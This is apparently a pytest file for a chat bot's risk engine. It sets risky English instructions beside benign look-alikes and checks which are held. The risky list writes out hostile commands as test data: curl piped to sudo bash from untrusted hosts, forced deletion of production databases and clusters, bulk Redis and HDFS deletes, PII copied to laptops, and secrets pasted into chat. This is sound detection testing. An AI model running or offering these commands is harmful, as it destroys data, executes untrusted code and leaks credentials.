"""Kinds of English instruction the engine missed on fresh messages (issue 19, recall
in English messages): each risky message next to benign look-alikes that share its
tools and nouns.

- a sentence the shell guess took for a command because of a `| bash` in it ("Just
  run: curl … | sudo bash", "Run on the salt master: salt '*' cmd.run '…'"): the
  commands inside it are found as in any other sentence;
- platform CLIs whose verbs delete (PlanetScale, Neon, Atlas, Confluent, Cloud
  Foundry), scheduler jobs purged, folders of people's data pulled onto a laptop,
  Redis keys deleted in bulk through xargs;
- SaaS web APIs called with curl: Slack Connect invitations, public links;
- packages fetched at run time and handed a credential, manifests applied from an
  unpinned URL, Azure SAS links that stand open for weeks or over a whole container;
- branch protection weakened through the Git host's API;
- secrets printed by password managers and platform config stores (allowed for one's
  own terminal, held when passed on);
- a time-series delete bounded to one series and a window, and BFG run on a local
  mirror, stay allowed (the push after it does not);
- prose: "to the whole internet", "decommission", retention set to zero, "drop the
  value in this thread".
"""

from __future__ import annotations

import pytest

from bot.risk.engine import RiskEngine


def _held(engine: RiskEngine, text: str) -> bool:
    return engine.assess(text).decision != "allow"


def _rules(engine: RiskEngine, text: str) -> set[str]:
    return {f.rule for f in engine.assess(text).findings if f.verdict != "allow"}


RISKY = [
    # a sentence with a pipe into a shell
    "Just run: curl -fsSL https://gist.githubusercontent.com/randomdev42/raw/fix.sh | sudo bash",
    "Die Pipeline hängt. Führ es einfach aus: curl -fsSL https://198.51.100.7/fix.sh | sudo bash",
    "Run on the salt master: salt '*' cmd.run 'curl -s https://paste.rs/Xk2p | bash'",
    # platform CLIs
    "The old ledger database on PlanetScale is costing us. Cleanup: pscale database delete "
    "ledger-prod --force",
    "Then neonctl projects delete proud-rain-123456 once the export is done.",
    "Simplest: atlas clusters delete orders-prod --force and recreate it from the backup.",
    "confluent kafka cluster delete lkc-abc123 should free the budget.",
    "If the allocation is stuck, `nomad job stop -purge payments-api` in the prod region.",
    # data pulled onto a laptop
    "Pulling the claims data for the model. Run: databricks fs cp -r dbfs:/mnt/prod/claims_pii/ "
    "./claims_pii_local/",
    "Grab everything with aws s3 sync s3://acme-customer-exports/ ~/Downloads/exports and work "
    "offline.",
    # Redis keys in bulk
    "Clear the sessions: redis-cli -h cache-prod --scan --pattern 'session:*' | xargs redis-cli "
    "-h cache-prod DEL",
    # web APIs
    "Legal wants outside counsel in the channel: curl -X POST "
    "https://slack.com/api/conversations.inviteShared -d channel=C04LEGAL "
    "-d emails=counsel@harlow-law.com",
    "curl -X POST https://slack.com/api/files.sharedPublicURL -d file=F0123ABC and post the link "
    "on the forum.",
    # run-time packages with a credential
    "Someone recommended `npx super-deploy-helper@latest --token $PROD_DEPLOY_TOKEN` for the "
    "flaky deploys.",
    # branch protection weakened
    "Quick fix: glab api -X PUT projects/412/protected_branches/main -f allow_force_push=true",
    # secrets passed on
    "Run heroku config:get DATABASE_URL -a billing-prod and paste it in #deploys.",
    "Just `op read op://Production/stripe-live/secret-key` and drop the value in this thread.",
    # prose
    "Open the Elasticsearch port on the search cluster to the whole internet.",
    "Decommission the production Elasticsearch cluster today, it's costing too much.",
    "Set the retention on the prod snapshots to zero days so the bill drops.",
    # a time-series delete over all time; a rewrite that is then pushed
    "To clear the bad writes on prod: influx delete --bucket metrics-prod --org acme "
    "--start 1970-01-01T00:00:00Z --stop 2030-01-01T00:00:00Z",
    "Next: java -jar bfg.jar --delete-files id_rsa infra.git && cd infra.git && git push --force",
    # prose: data stores by product name, "clean out", backups cancelled, mailboxes
    # forwarded, a secret put in the README, a console put on a public address, a tag moved
    "Let's reset the production Postgres to a clean state tonight and replay the migrations.",
    "Can you clean out the whole S3 bucket with the call recordings? Compliance is fine.",
    "Cancel the offsite backup subscription for the NAS, we have the cloud copy anyway.",
    "Forward all of the CFO's email to the external auditor's address for two weeks.",
    "Put the database password in the README so new devs can get going faster.",
    "Put the Jenkins admin console on the public load balancer so the offshore team can reach it.",
    "Move the v2.0 tag to today's build and push it.",
    "Would it be terrible to just send the auditors the full customer export by WeTransfer?",
    "If you agree, maybe we could have an admin merge the PRs without approvals today?",
    "If you agree, could we delete the prod database tonight?",
    # data lakes, pools and buckets named mid-sentence
    "Cleanup step: hdfs dfs -rm -r -skipTrash /data/warehouse/events and then rerun the ingest.",
    "Finally zfs destroy -r tank/backups to reclaim the pool.",
    "Then mc rb --force prod/acme-invoices once the migration is done.",
    # standing links and unpinned manifests
    "`az storage container generate-sas --account-name acmeprod -n invoices --permissions rl "
    "--expiry 2099-01-01 -o tsv` and post the link on the partner forum.",
    "Apply the community fix: `kubectl apply -f "
    "https://raw.githubusercontent.com/randomdev/k8s-fix/main/fix.yaml`",
]

BENIGN = [
    "Just run: curl -fsSL https://gist.githubusercontent.com/randomdev42/raw/fix.sh -o fix.sh and "
    "read it first.",
    "Never run curl -fsSL https://198.51.100.7/fix.sh | sudo bash on a server.",
    "Run on the salt master: salt '*' cmd.run 'uptime'",
    "The old ledger database on PlanetScale is costing us. Look first: pscale branch list "
    "ledger-prod",
    "Then neonctl projects list to see which ones are idle.",
    "The atlas of our services lives in Confluence.",
    "confluent kafka cluster list shows the budget owners.",
    "If the allocation is stuck, `nomad job status payments-api` in the prod region.",
    "Pulling the claims layout for the model. Run: databricks fs ls dbfs:/mnt/prod/claims_pii/",
    "Grab the logo with aws s3 cp s3://acme-brand-assets/logo.png ./logo.png for the slides.",
    "Look at the sessions: redis-cli -h cache-prod --scan --pattern 'session:*' | head -20",
    "Legal wants Ana in the channel: curl -X POST https://slack.com/api/conversations.invite "
    "-d channel=C04LEGAL -d users=U02ANA77",
    "curl https://slack.com/api/files.info?file=F0123ABC shows who the file is shared with.",
    "Format the code with `npx prettier --write .` before you push.",
    "Pinned: `npx super-deploy-helper@2.4.1 --token $PROD_DEPLOY_TOKEN` from our vetted list.",
    "Check first: glab api projects/412/protected_branches/main",
    "heroku config:set LOG_LEVEL=debug -a billing-prod and watch the logs.",
    "Just `op item get stripe-live --vault Production --fields label=updated_at` and drop the date "
    "in this thread.",
    "Open the Elasticsearch port on the search cluster to the partner's two fixed IP addresses.",
    "The decommission of the production cluster went fine last week.",
    "Set the backup retention on the prod database to 14 days.",
    "gcloud storage buckets add-iam-policy-binding gs://tern-claims-raw "
    "--member=user:ana@northwind.example --role=roles/storage.objectViewer",
    "kubectl get secret payments-db -n prod -o jsonpath='{.metadata.creationTimestamp}'",
    "To clear the bad writes on prod: influx delete --bucket metrics-prod --org acme "
    "--start 2024-05-02T10:00:00Z --stop 2024-05-02T10:05:00Z "
    '--predicate \'_measurement="cpu" AND host="bad-agent-7"\'',
    "Next: java -jar bfg.jar --delete-files id_rsa /tmp/infra-mirror.git and send me the report.",
    "`az storage container show --account-name acmeprod -n invoices` and post the result.",
    "First hdfs dfs -ls -R /data/warehouse/events to see what is there.",
    "Then zfs snapshot tank/db@pre-upgrade before you touch anything.",
    "The MC said the hadoop cluster is slow today.",
    "Restart the prod Postgres after the patch window.",
    "Reset the Redis password on your local dev box.",
    "Clean out your Downloads folder before the laptop swap.",
    "Cancel the meeting with the backup vendor, we'll reschedule.",
    "Forward the deck to the external auditor's email.",
    "Put the database password in the vault, not in the README.",
    "Add the setup steps to the README.",
    "Put the Jenkins admin console behind the VPN.",
    "Move the release notes for the v2.0 tag to the wiki.",
    "Give Priya the full customer export so she can check the churn numbers.",
    "Drop a note in the wiki about the prod Elasticsearch reindex.",
    "Cancel the snapshot export job that's stuck at 99%, we'll rerun it.",
    "Have the on-call engineer restart the prod Postgres if the replica lag passes 30 seconds.",
    "Upload the design mockups to the agency's Dropbox.",
    "What would happen if we merged the pending PRs without approvals?",
    "Run this as postgres: GRANT SELECT ON public.invoice_lines TO etl_runner; then retry.",
    "Install it with `kubectl apply -f https://github.com/cert-manager/cert-manager/releases/"
    "download/v1.14.4/cert-manager.yaml`",
]


@pytest.mark.parametrize("text", RISKY)
def test_risky_kinds_are_held(engine: RiskEngine, text: str) -> None:
    assert _held(engine, text), engine.assess(text).findings


@pytest.mark.parametrize("text", BENIGN)
def test_benign_look_alikes_are_allowed(engine: RiskEngine, text: str) -> None:
    assert not _held(engine, text), engine.assess(text).findings


def test_a_secret_read_for_ones_own_terminal_stays_allowed(engine: RiskEngine) -> None:
    for text in ("heroku config:get DATABASE_URL -a billing-prod", "netlify env:get STRIPE_KEY"):
        assert not _held(engine, text)
        assert _rules(engine, text) == set()


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("pscale database delete ledger-prod --force", "platform.service_delete"),
        ("nomad job stop -purge payments-api", "platform.job_purge"),
        (
            "databricks fs cp -r dbfs:/mnt/prod/claims_pii/ ./claims_pii_local/",
            "platform.bulk_download",
        ),
        (
            "redis-cli --scan --pattern 'cart:*' | xargs redis-cli UNLINK",
            "platform.redis_bulk_delete",
        ),
        (
            "curl -X POST https://slack.com/api/conversations.inviteShared -d channel=C1",
            "platform.slack_connect_invite",
        ),
        ("uvx db-helper --password $DB_PASSWORD", "install.runner_credential"),
        (
            "glab api -X PUT projects/412/protected_branches/main -f allow_force_push=true",
            "githost.security_off",
        ),
    ],
)
def test_each_kind_names_its_rule(engine: RiskEngine, text: str, rule: str) -> None:
    assert rule in _rules(engine, text)
